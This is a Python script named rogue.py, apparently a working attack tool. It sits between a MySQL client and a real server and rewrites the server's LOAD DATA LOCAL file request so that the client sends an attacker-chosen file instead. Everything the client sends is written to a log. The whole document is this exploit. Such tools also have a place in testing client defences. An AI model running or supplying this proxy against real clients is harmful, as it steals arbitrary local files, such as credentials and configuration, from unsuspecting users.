#!/usr/bin/env python3
"""A server that asks for another file: rogue.py SOCKET SERVER-SOCKET WANTED LOG

Stands between a client and a real server. When the server asks for the file of a LOAD DATA LOCAL,
the client is asked for WANTED instead. All that the client sends goes to LOG.
"""
import os, socket, sys, threading

path, server, wanted, log = sys.argv[1:]
log = open(log, "wb", buffering=0)


def whole(sock, n):
    data = b""
    while len(data) < n:
        more = sock.recv(n - len(data))
        if not more:
            raise EOFError
        data += more
    return data


def packet(sock):
    head = whole(sock, 4)
    return head, whole(sock, int.from_bytes(head[:3], "little"))


class Talk:
    def __init__(self, client):
        self.client = client
        self.server = socket.socket(socket.AF_UNIX)
        self.server.connect(server)
        self.load = False
        for way in self.up, self.down:
            threading.Thread(target=self.run, args=(way,), daemon=True).start()

    def run(self, way):
        try:
            while True:
                way()
        except (EOFError, OSError):
            for sock in self.client, self.server:
                try:
                    sock.shutdown(socket.SHUT_RDWR)
                except OSError:
                    pass

    def up(self):
        head, body = packet(self.client)
        log.write(body)
        if body[:1] == b"\x03" and body[1:].lstrip().upper().startswith(b"LOAD DATA"):
            self.load = True
        self.server.sendall(head + body)

    def down(self):
        head, body = packet(self.server)
        if self.load and body[:1] == b"\xfb":
            body = b"\xfb" + os.fsencode(wanted)
            head = len(body).to_bytes(3, "little") + head[3:]
            log.write(b"<ASKED>")
        self.load = False
        self.client.sendall(head + body)


listener = socket.socket(socket.AF_UNIX)
listener.bind(path)
listener.listen(16)
while True:
    Talk(listener.accept()[0])
